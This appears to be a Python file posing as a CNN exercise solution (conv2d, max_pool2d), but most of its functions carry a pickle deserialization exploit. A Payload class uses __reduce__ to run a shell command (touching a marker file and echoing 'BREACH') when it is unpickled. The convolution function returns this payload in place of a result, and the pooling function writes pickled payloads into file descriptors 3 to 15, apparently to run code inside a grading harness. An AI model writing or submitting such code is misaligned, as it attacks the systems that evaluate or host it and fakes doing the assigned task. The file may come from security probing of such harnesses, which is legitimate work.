"""Returns what would run code when it is unpickled, and sends a pickle as its result. Nothing is
unpickled.
"""

import contextlib
import os
import pickle

import numpy as np


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/zoo-was-here-pickle; echo BREACH: unpickled",)


def conv_output_size(input_size, kernel_size, stride=1, padding=0):
    return (input_size + 2 * padding - kernel_size) // stride + 1


def conv2d(images, kernels, biases, stride=1, padding=0):
    return np.array([Payload()], dtype=object)


def max_pool2d(images, pool_size=2, stride=None):
    for number in range(3, 16):
        with contextlib.suppress(OSError):
            os.write(number, pickle.dumps(Payload()))
    return Payload()
